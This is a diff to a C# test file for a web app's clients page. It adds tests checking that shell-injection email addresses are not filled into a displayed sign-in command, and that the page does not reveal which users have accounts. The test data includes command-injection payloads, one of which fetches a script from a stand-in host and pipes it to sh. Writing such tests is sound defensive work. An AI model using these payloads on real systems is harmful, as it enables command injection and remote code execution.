@@ -153,7 +153,7 @@ public partial class PagesTests
         var anybody = await browser.GetStringAsync("/clients");
 
         Assert.Contains("<th scope=\"row\">Username</th><td><bdi>KariHensien@adatum.com</bdi></td>", known, StringComparison.Ordinal);
-        Assert.Contains("rvp signin --account KariHensien@adatum.com --server http://im.adatum.com\n", known, StringComparison.Ordinal);
+        Assert.Contains("rvp signin --account \"KariHensien@adatum.com\" --server \"http://im.adatum.com\"\n", known, StringComparison.Ordinal);
         Assert.Contains("<td><bdi>you@adatum.com</bdi></td>", anybody, StringComparison.Ordinal);
         Assert.DoesNotContain("{{", known, StringComparison.Ordinal);
     }
@@ -170,6 +170,40 @@ public partial class PagesTests
         var page = await browser.GetStringAsync("/clients?address=" + Uri.EscapeDataString(address));
 
         Assert.DoesNotMatch("<script|\"on|'x'", page);
+    }
+
+    [Theory]
+    [InlineData("$(curl${IFS}evil.example|sh)@adatum.com")]
+    [InlineData("`id`@adatum.com")]
+    [InlineData("x;id@adatum.com")]
+    [InlineData("x&calc@adatum.com")]
+    [InlineData("%PATH%@adatum.com")]
+    [InlineData("!!@adatum.com")]
+    [InlineData("x\"|id|\"@adatum.com")]
+    [InlineData("--server=evil.example@adatum.com")]
+    [InlineData("x@$(id)")]
+    [InlineData("JoBrown@adatum.com\nid")]
+    [InlineData("JoBrown\u202E@adatum.com")]
+    public async Task An_address_that_a_shell_could_run_is_not_filled_in(string address)
+    {
+        await using var application = new RvpApplication();
+        using var browser = application.CreateClient();
+
+        var page = await browser.GetStringAsync("/clients?address=" + Uri.EscapeDataString(address));
+
+        Assert.Equal(await browser.GetStringAsync("/clients"), page);
+    }
+
+    [Fact]
+    public async Task The_clients_page_does_not_say_who_has_an_account()
+    {
+        await using var application = new RvpApplication();
+        using var browser = application.CreateClient();
+
+        var known = await browser.GetStringAsync("/clients?address=KariHensien@adatum.com");
+        var nobody = await browser.GetStringAsync("/clients?address=JoBrown@adatum.com");
+
+        Assert.Equal(known, nobody.Replace("JoBrown", "KariHensien", StringComparison.Ordinal));
     }
 
     [Fact]
